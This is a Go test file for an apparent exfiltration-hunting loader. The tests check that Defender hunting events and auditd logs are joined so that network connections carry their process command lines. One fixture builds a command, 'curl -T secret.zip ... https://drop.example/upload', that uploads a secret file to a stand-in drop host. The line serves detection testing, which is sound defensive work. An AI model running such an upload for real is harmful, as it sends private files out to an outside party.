package loaders_test

import (
	"fmt"
	"strings"
	"testing"

	"exfilhunt/loaders"
)

// A connection gets the command line of the latest process that had its id, if it is that process.
func TestProcessesAreNamed(t *testing.T) {
	const process = `{"time":"2024-05-01T10:00:00Z","category":"AdvancedHunting-DeviceProcessEvents","properties":{"Timestamp":"2024-05-01T10:%sZ",
"DeviceName":"ws1","ActionType":"ProcessCreated","FileName":"%s","ProcessId":%d,"ProcessUniqueId":"%s","ProcessCommandLine":"%s","AccountName":"ann","InitiatingProcessFileName":"cmd.exe"}}`
	const connection = `{"time":"2024-05-01T10:00:00Z","category":"AdvancedHunting-DeviceNetworkEvents","properties":{"Timestamp":"2024-05-01T10:%s:00Z",
"DeviceName":"%s","ActionType":"ConnectionSuccess","RemoteIP":"%s","InitiatingProcessFileName":"%s","InitiatingProcessId":%d,"InitiatingProcessUniqueId":"%s","InitiatingProcessCommandLine":"%s"}}`
	line := func(format string, args ...any) string {
		return jsonLine(fmt.Sprintf(format, args...))
	}
	connections := write(t, "connections.json",
		line(connection, "05", "ws1", "the first", "CURL.EXE", 7, "", "")+
			line(connection, "15", "ws1", "the id used again", "curl.exe", 7, "", "")+
			line(connection, "15", "ws1", "no name", "", 7, "", "")+
			line(connection, "15", "ws1", "another program", "ssh.exe", 7, "", "")+
			line(connection, "15", "ws2", "another device", "curl.exe", 7, "", "")+
			line(connection, "15", "ws1", "named", "curl.exe", 7, "", "its own")+
			line(connection, "00", "ws1", "too early", "curl.exe", 7, "", "")+
			line(connection, "25", "ws1", "by unique id", "wget.exe", 8, "{b}", "")+
			line(connection, "25", "ws1", "another unique id", "wget.exe", 8, "{c}", "")+
			line(connection, "12", "ws1", "before the silent creation", "curl.exe", 9, "", "")+
			line(connection, "25", "ws1", "of a silent creation", "curl.exe", 9, "", "")+
			line(connection, "25", "ws1", "of two sources", "curl.exe", 10, "", "")+
			line(connection, "25", "ws1", "128 bytes, but not of auditd", "curl.exe", 11, "", strings.Repeat("x", 128)))
	processes := write(t, "processes.json",
		line(process, "01:00", "curl.exe", 7, "", "curl first")+
			line(process, "10:00", "curl.exe", 7, "", "curl second")+
			line(process, "20:00", "wget.exe", 8, "{b}", "wget")+
			line(process, "10:00", "curl.exe", 9, "", "curl old")+
			line(process, "20:00", "curl.exe", 9, "", "")+
			line(process, "20:00", "curl.exe", 10, "", "curl by Sysmon")+
			line(process, "20:01", "curl.exe", 10, "", "")+
			line(process, "20:00", "curl.exe", 11, "", strings.Repeat("x", 200)))
	for _, paths := range [][]string{{connections, processes}, {processes, connections}} {
		s := tempStore(t)
		for _, r := range load(t, s, loaders.Options{}, paths...) {
			if r.Err != nil || r.Rejected > 0 {
				t.Fatalf("%+v", r)
			}
		}
		expect(t, s, "SELECT RemoteIP || ': ' || InitiatingProcessCommandLine FROM DeviceNetworkEvents ORDER BY rowid",
			"the first: curl first", "the id used again: curl second", "no name: curl second", "another program: ", "another device: ",
			"named: its own", "too early: ", "by unique id: wget", "another unique id: ",
			"before the silent creation: curl old", "of a silent creation: ", "of two sources: curl by Sysmon",
			"128 bytes, but not of auditd: "+strings.Repeat("x", 128))
		expect(t, s, `SELECT InitiatingProcessCreationTime || ' ' || InitiatingProcessParentFileName || ' ' || AccountName
			FROM DeviceNetworkEvents WHERE RemoteIP = 'the first'`, "2024-05-01 10:01:00 cmd.exe ann")
	}
}

// The kernel keeps 128 bytes of a process's title; its arguments are whole where it was executed.
func TestCutTitlesAreCompleted(t *testing.T) {
	for name, padding := range map[string]string{
		"letters": strings.Repeat("A", 200), "two bytes a letter": strings.Repeat("é", 100), "three": strings.Repeat("文", 80), "blanks": strings.Repeat("A", 105) + " B",
	} {
		command := "curl -T secret.zip -H X:" + padding + " https://drop.example/upload"
		title := fmt.Sprintf("%X", strings.ReplaceAll(command, " ", "\x00")[:128])
		argument := fmt.Sprintf("%X", command[len("curl "):])
		const execve, connect, other = "msg=audit(1763800000.100:10): ", "msg=audit(1763800001.100:11): ", "msg=audit(1763800002.100:12): "
		const call = `arch=c000003e syscall=%d success=yes exit=0 ppid=100 pid=%d uid=0 exe="/usr/bin/curl" key="x"` + "\n"
		log := write(t, "audit.log", "type=SYSCALL "+execve+fmt.Sprintf(call, 59, 200)+"type=EXECVE "+execve+`argc=2 a0="curl" a1=`+argument+"\n"+
			"type=PROCTITLE "+execve+"proctitle="+title+"\n"+
			"type=SYSCALL "+connect+fmt.Sprintf(call, 42, 200)+"type=SOCKADDR "+connect+"saddr=020001BBCB0071070000000000000000\n"+
			"type=PROCTITLE "+connect+"proctitle="+title+"\n"+
			"type=SYSCALL "+other+fmt.Sprintf(call, 42, 200)+"type=SOCKADDR "+other+"saddr=020001BBCB0071080000000000000000\n"+
			"type=PROCTITLE "+other+"proctitle=\"curl\"\n")
		s := tempStore(t)
		if r := load(t, s, loaders.Options{}, log); r[0].Err != nil || r[0].Loaded != 3 {
			t.Errorf("%s: %+v", name, r)
		}
		expect(t, s, "SELECT RemoteIP || ': ' || InitiatingProcessCommandLine FROM DeviceNetworkEvents ORDER BY RemoteIP",
			"203.0.113.7: "+command, "203.0.113.8: curl")
	}
}
